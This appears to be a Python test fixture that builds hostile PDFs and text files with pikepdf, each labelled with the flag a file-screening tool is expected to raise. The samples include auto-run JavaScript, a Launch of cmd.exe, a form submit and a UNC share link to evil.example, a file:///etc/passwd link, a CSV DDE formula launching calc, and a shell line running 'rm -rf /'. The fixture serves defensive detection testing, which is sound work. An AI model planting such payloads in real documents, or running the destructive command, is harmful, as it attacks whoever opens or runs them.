"""Documents that act, carry something, or are none."""

from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def pdf(change=lambda _pdf: None, **saved):
    written = BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page(page_size=(200, 200))
        change(made)
        made.save(written, **saved)
    return written.getvalue()


def opening(**action):
    def change(made):
        made.Root.OpenAction = Dictionary(**action)

    return lambda: pdf(change)


def on_page(**note):
    def change(made):
        box = Array([0, 0, 9, 9])
        made.pages[0].Annots = Array([made.make_indirect(Dictionary(Type=Name.Annot, Rect=box, **note))])

    return lambda: pdf(change)


def javascript_by_name(made):
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), made.make_indirect(script)])))


def script_in_hidden_object(made):
    """Nothing points to it but its own stream, which is packed."""
    made.Root.Extra = made.make_indirect(
        Dictionary(Deep=Array([Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(1)"))]))
    )


def attachment(made):
    made.attachments["run.exe"] = b"MZ" + b"\0" * 100


def form_of_scripts(made):
    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array())


def keystrokes(made):
    field = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("1"))))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def many_pages(made):
    for _ in range(501):
        made.add_blank_page(page_size=(9, 9))


HOSTILE = {
    "a PDF that runs JavaScript when opened": (
        "offer.pdf",
        opening(S=Name.JavaScript, JS=String("app.alert(1)")),
        "has_scripts",
    ),
    "a PDF that starts a program": (
        "offer.pdf",
        opening(S=Name.Launch, F=String("cmd.exe")),
        "has_scripts",
    ),
    "a PDF with JavaScript in its list of names": ("offer.pdf", lambda: pdf(javascript_by_name), "has_scripts"),
    "a PDF with JavaScript where nobody looks": (
        "offer.pdf",
        lambda: pdf(script_in_hidden_object, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "has_scripts",
    ),
    "a PDF that listens to keys": ("form.pdf", lambda: pdf(keystrokes), "has_scripts"),
    "a PDF with a form of scripts": ("form.pdf", lambda: pdf(form_of_scripts), "has_scripts"),
    "a PDF that sends what is written in it": (
        "form.pdf",
        opening(S=Name.SubmitForm, F=String("https://evil.example/")),
        "has_scripts",
    ),
    "a PDF with a link to a script": (
        "link.pdf",
        on_page(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        "has_scripts",
    ),
    "a PDF with a link to a file of the reader": (
        "link.pdf",
        on_page(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        "has_scripts",
    ),
    "a PDF with a film in it": ("film.pdf", on_page(Subtype=Name.RichMedia), "has_scripts"),
    "a PDF with a file in it": ("offer.pdf", lambda: pdf(attachment), "has_files"),
    "a PDF with a file pinned to a page": ("offer.pdf", on_page(Subtype=Name.FileAttachment), "has_files"),
    "a PDF that opens another on a share": (
        "offer.pdf",
        opening(S=Name.GoToR, F=String("\\\\evil.example\\share\\a.pdf")),
        "refers_outside",
    ),
    "a PDF behind a password": (
        "secret.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "encrypted",
    ),
    "a PDF of 502 pages": ("long.pdf", lambda: pdf(many_pages), "too_complex"),
    "a PDF cut off": ("cut.pdf", lambda: pdf()[:300], "damaged"),
    "a PDF that is its first line": ("first.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "damaged"),
    "a text with zero bytes": ("notes.txt", lambda: b"notes\0\0\0 and more", "unknown_type"),
    "a text in another encoding": ("notes.txt", lambda: "价格".encode("gb18030") + b"\xff\xfe", None),
    "a text that reads backwards": ("notes.txt", "pay \u202e000,1 euros".encode, "not_text"),
    "a text that steers a terminal": ("notes.txt", lambda: b"hello \x1b[2Jthere", "not_text"),
    "a table of formulas": ("prices.csv", lambda: b"a,b\n1,=cmd|' /C calc'!A0\n", "has_formulas"),
    "a page": ("about.txt", lambda: b"  <!doctype html><script>alert(1)</script>", "unknown_type"),
    "a script of the shell": ("readme.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "unknown_type"),
    "a file of spaces": ("empty.txt", lambda: b"  \n \n", "empty"),
}
